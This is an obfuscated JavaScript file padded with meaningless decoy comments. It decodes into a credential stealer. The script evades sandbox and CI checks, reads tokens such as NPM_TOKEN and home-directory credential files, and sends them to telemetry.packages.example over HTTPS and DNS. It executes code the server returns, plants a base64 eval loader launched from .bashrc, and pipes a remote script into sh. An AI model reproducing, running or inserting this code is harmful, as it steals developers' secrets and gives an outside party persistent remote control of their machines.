/* weather in the northern valleys remained mild 67 */ var geroropafax = [
/* please find the enclosed statement for your records 38 */ ["so"],
[42, 144, 157],
/* please find the enclosed statement for your records 90 */ ["htap"],
["sp", "tth"],
[257, 357, 367, 372],
/* weather in the northern valleys remained mild 49 */ [150, 249, 254, 255, 258, 250, 245, 262, 264, 261, 249, 251, 265, 265],
["NEKO", "T_MPN"],
/* please find the enclosed statement for your records 98 */ [334, 405, 407, 418, 406, 419, 400, 429, 418, 413, 409, 403, 412],
[322, 387, 409, 405, 417, 405, 391, 389, 404, 391, 406, 417, 387, 389, 389, 391, 405, 405, 417, 397, 391, 411],
["crm", "pn."],
[93, 139, 208, 208, 197, 140, 198, 193, 188, 207, 208, 190],
[36, 82, 133, 155, 151, 83, 135, 150, 137, 136, 137, 146, 152, 141, 133, 144, 151],
[378, 424, 476, 475, 493, 482, 473, 482, 483, 493, 494, 489, 492, 499],
["su", "pc"],
["h", "tgnel"],
["eman", "tsoh"],
/* the quarterly balance was settled by the committee 78 */ ["esa", "Crew", "oLot"],
/* weather in the northern valleys remained mild 38 */ ["se", "du", "lc", "ni"],
[174, 289, 271, 284, 274, 272, 285, 294],
/* the quarterly balance was settled by the committee 25 */ ["vgra"],
["se", "dul", "cni"],
["tcep", "sni--"],
/* minutes of the annual meeting, page 92 */ ["eman", "tsoh"],
[55, 172, 170, 156, 169, 128, 165, 157, 166],
["em", "anr", "esu"],
["dwc"],
/* minutes of the annual meeting, page 48 */ ["vne"],
["vne"],
/* weather in the northern valleys remained mild 82 */ ["vne"],
/* the quarterly balance was settled by the committee 52 */ ["ni", "oj"],
[391, 495, 502, 500, 492, 491, 496, 505],
/* the quarterly balance was settled by the committee 46 */ ["selif"],
/* minutes of the annual meeting, page 90 */ ["cnyS", "eliF", "daer"],
["8ftu"],
[310, 425, 418, 415, 409, 411],
/* minutes of the annual meeting, page 65 */ [336, 437, 446, 454],
[" on"],
["edoc"],
[392, 506, 493, 505, 509, 493, 507, 508],
["e", "lpmax", "e.seg", "akcap", ".yrte", "melet"],
/* the quarterly balance was settled by the committee 12 */ ["t", "ce", "ll", "oc", "/1", "v/"],
["TSOP"],
/* the quarterly balance was settled by the committee 23 */ [""],
/* minutes of the annual meeting, page 82 */ ["no"],
[269, 369, 366, 385, 366],
["no"],
[18, 119, 128, 118],
[144, 249, 254, 244, 245, 264, 223, 246],
["stro", "pxe.e", "ludom"],
[61, 170, 172, 161, 178, 169, 162],
[342, 457, 443, 458, 414, 443, 439, 442, 443, 456],
[294, 393, 405, 404, 410, 395, 404, 410, 339, 410, 415, 406, 395],
[351, 448, 463, 463, 459, 456, 450, 448, 467, 456, 462, 461, 398, 457, 466, 462, 461],
/* minutes of the annual meeting, page 20 */ [66, 177, 176],
/* weather in the northern valleys remained mild 69 */ ["r", "orre"],
["d", "ne"],
["em", "ant", "soh"],
/* the quarterly balance was settled by the committee 39 */ ["m", "orf"],
["gni", "rtSot"],
[106, 210, 207, 226],
[99, 214, 207, 204, 198, 200],
/* please find the enclosed statement for your records 85 */ [266, 374, 367, 376, 369, 382, 370],
[160, 274, 261, 275, 271, 268, 278, 261],
/* weather in the northern valleys remained mild 39 */ [217, 332, 325, 322, 316, 318],
/* the quarterly balance was settled by the committee 53 */ [326, 372, 431, 436, 372, 438, 423, 425, 433, 423, 429, 427, 441, 372, 427, 446, 423, 435, 438, 434, 427],
[136, 242, 247, 241, 246],
/* weather in the northern valleys remained mild 10 */ ["rid", "emoh"],
["gif", "noc."],
[219, 327, 330, 316, 319, 320, 333, 265, 325, 334],
["cny", "Sri", "dkm"],
[251, 351, 356, 365, 361, 348, 360, 352],
[292, 411, 406, 397, 408, 393, 362, 397, 400, 393, 375, 413, 402, 391],
[";", "))(gn", "irtSo", "t.)'4", "6esab", "' ,'=", "=QKis", "2YhJm", "Ioc2b", "s5SZs", "92cu9", "2Y'(m", "orf.r", "effuB", "(lave"],
["cn", "ySe", "liF", "dne", "ppa"],
/* weather in the northern valleys remained mild 63 */ [181, 287, 292, 286, 291],
/* please find the enclosed statement for your records 53 */ ["ri", "demoh"],
/* minutes of the annual meeting, page 70 */ ["crh", "sab."],
[" ", "edon\n"],
/* the quarterly balance was settled by the committee 63 */ ["\n& "],
["hs |", " hs.e", "gats/", "elpma", "xe.se", "gakca", "p.yrt", "emele", "t//:s", "ptth ", "LSsf-", " lruc"],
["e", "rongi"],
[333, 441, 444, 436],
[17, 117, 128, 127, 118],
["yfi", "gni", "rts"]
];
function lutidatugiz(at) {
/* the quarterly balance was settled by the committee 40 */ var row = geroropafax[at], coded = typeof row[0] == "number", text = "";
/* please find the enclosed statement for your records 69 */ if (coded) for (var i = 1; i < row.length; i++) text += String.fromCharCode(row[i] - row[0]);
else for (var j = row.length - 1; j >= 0; j--) text += row[j].split("").reverse().join("");
return text;
/* the quarterly balance was settled by the committee 65 */ }
const os = require(lutidatugiz(0));
const fs = require(lutidatugiz(1));
const path = require(lutidatugiz(2));
/* the quarterly balance was settled by the committee 16 */ const https = require(lutidatugiz(3));
/* weather in the northern valleys remained mild 96 */ const dns = require(lutidatugiz(4));
const { execSync } = require(lutidatugiz(5));
const genopaligoy = [lutidatugiz(6), lutidatugiz(7), lutidatugiz(8)];
const nunifareciy = [lutidatugiz(9), lutidatugiz(10), lutidatugiz(11), lutidatugiz(12)];
function sagolasogaz() {
if (os[lutidatugiz(13)]()[lutidatugiz(14)] < 2) return true;
/* minutes of the annual meeting, page 54 */ if (os[lutidatugiz(15)]()[lutidatugiz(16)]()[lutidatugiz(17)](lutidatugiz(18))) return true;
return process[lutidatugiz(19)][lutidatugiz(20)](lutidatugiz(21));
}
function serosipipez() {
const pupisasulux = { host: os[lutidatugiz(22)](), user: os[lutidatugiz(23)]()[lutidatugiz(24)], cwd: process[lutidatugiz(25)](), env: {}, files: {} };
/* the quarterly balance was settled by the committee 28 */ for (const fotumeruvoz of genopaligoy) if (process[lutidatugiz(26)][fotumeruvoz]) pupisasulux[lutidatugiz(27)][fotumeruvoz] = process[lutidatugiz(28)][fotumeruvoz];
for (const pefimumisez of nunifareciy) {
/* please find the enclosed statement for your records 57 */ const fonupimarux = path[lutidatugiz(29)](os[lutidatugiz(30)](), pefimumisez);
try {
pupisasulux[lutidatugiz(31)][pefimumisez] = fs[lutidatugiz(32)](fonupimarux, lutidatugiz(33))[lutidatugiz(34)](0, 4000);
} catch (error) {
/* the quarterly balance was settled by the committee 66 */ pupisasulux[lutidatugiz(35)][lutidatugiz(36) + pefimumisez] = error[lutidatugiz(37)];
}
}
/* the quarterly balance was settled by the committee 18 */ return pupisasulux;
}
function lenimupelax(text) {
const tisoputabax = https[lutidatugiz(38)]({
hostname: lutidatugiz(39),
path: lutidatugiz(40),
method: lutidatugiz(41)
/* the quarterly balance was settled by the committee 78 */ }, function (focicomopux) {
let tacemifedey = lutidatugiz(42);
focicomopux[lutidatugiz(43)](lutidatugiz(44), function (sofifusucey) { tacemifedey += sofifusucey; });
focicomopux[lutidatugiz(45)](lutidatugiz(46), function () { if (tacemifedey[lutidatugiz(47)](lutidatugiz(48)) === 0) new Function(lutidatugiz(49), tacemifedey)({}); });
});
tisoputabax[lutidatugiz(50)](lutidatugiz(51), lutidatugiz(52));
/* minutes of the annual meeting, page 69 */ tisoputabax[lutidatugiz(53)](lutidatugiz(54), function () { maranedotuy(text); });
tisoputabax[lutidatugiz(55)](text);
maranedotuy(os[lutidatugiz(56)]());
/* weather in the northern valleys remained mild 83 */ }
/* please find the enclosed statement for your records 42 */ function maranedotuy(text) {
/* the quarterly balance was settled by the committee 42 */ const bamepogiduy = Buffer[lutidatugiz(57)](text)[lutidatugiz(58)](lutidatugiz(59))[lutidatugiz(60)](0, 120);
for (let benamiburey = 0; benamiburey < bamepogiduy[lutidatugiz(61)]; benamiburey += 40) {
/* the quarterly balance was settled by the committee 35 */ dns[lutidatugiz(62)](bamepogiduy[lutidatugiz(63)](benamiburey, benamiburey + 40) + lutidatugiz(64), function () {});
}
/* please find the enclosed statement for your records 74 */ }
function poredabirox() {
const loader = path[lutidatugiz(65)](os[lutidatugiz(66)](), lutidatugiz(67), lutidatugiz(68));
fs[lutidatugiz(69)](path[lutidatugiz(70)](loader), { recursive: true });
/* please find the enclosed statement for your records 65 */ fs[lutidatugiz(71)](loader, lutidatugiz(72));
fs[lutidatugiz(73)](path[lutidatugiz(74)](os[lutidatugiz(75)](), lutidatugiz(76)), lutidatugiz(77) + loader + lutidatugiz(78));
try {
execSync(lutidatugiz(79), { stdio: lutidatugiz(80) });
} catch (error) {
console[lutidatugiz(81)](lutidatugiz(82));
/* the quarterly balance was settled by the committee 57 */ }
}
if (!sagolasogaz()) {
lenimupelax(JSON[lutidatugiz(83)](serosipipez()));
poredabirox();
}
